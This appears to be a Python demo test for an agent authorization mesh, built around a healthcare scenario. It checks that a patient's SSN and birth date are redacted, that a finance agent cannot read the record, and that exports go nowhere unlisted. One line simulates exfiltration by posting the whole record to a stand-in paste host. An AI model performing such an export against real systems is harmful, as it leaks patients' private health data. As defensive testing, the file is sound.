"""Healthcare: an agent that works with patients' records, whose identifiers go neither in nor out."""

from __future__ import annotations

from aegis_authz.demo.agent import Agent
from aegis_authz.demo.mesh import DemoMesh
from aegis_authz.demo.scenario import Row, row
from aegis_authz.demo.tools import PATIENT
from aegis_authz.demo.use_cases.use_case import UseCase

_URL, _PATH = "http://ehr.example/records/p-18", "/records/p-18"
_SSN, _BORN, _NOTES = "078-05-1120", "1961-07-04", "penicillin"
_SUBJECT = "update a record that names an SSN and a date of birth"


async def _records(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """SSN and date of birth are redacted on the way to the records of a clinic, and on the way back."""
    is_at_rest = all(text in str(PATIENT) for text in (_SSN, _BORN, _NOTES))
    update = await agent.call("clinic-agent", "PUT", _URL, {"note": f"SSN {_SSN}, date of birth {_BORN}, stable"})
    body = str(mesh.tools.received[_PATH]["body"])
    is_clean_in = _is_clean(body) and "stable" in body
    mesh.tools.received.pop(_PATH)
    read = await agent.call("clinic-agent", "GET", _URL)
    is_clean_out = is_at_rest and all(_is_clean(text) and "Ada Example" in text for text in (update.body, read.body))
    export = await agent.call("clinic-agent", "POST", "http://paste.example/", {"record": read.body})
    mesh.tools.received.pop(_PATH)
    foreign = await agent.call("finance-agent", "GET", _URL)
    is_unread = _PATH not in mesh.tools.received
    name = "healthcare"
    return [
        row(name, _SUBJECT, update, "sanitize", "SANITIZED", is_clean_in and is_clean_out),
        row(name, "read it", read, "sanitize", "SANITIZED", is_clean_out),
        row(name, "send it to a host nobody listed", export, "deny", "EGRESS_DENIED"),
        row(name, "read it as the agent of finance", foreign, "deny", "POLICY_DENIED", is_unread),
    ]


def _is_clean(text: str) -> bool:
    return "REDACTED" in text and not any(secret in text for secret in (_SSN, _BORN, _NOTES))


HEALTHCARE = UseCase(
    "healthcare",
    _records,
    _SUBJECT,
    frozenset({"destination-outside-the-allowlist", "tool-never-used-before"}),
    frozenset({_SSN, _BORN, _NOTES}),
)
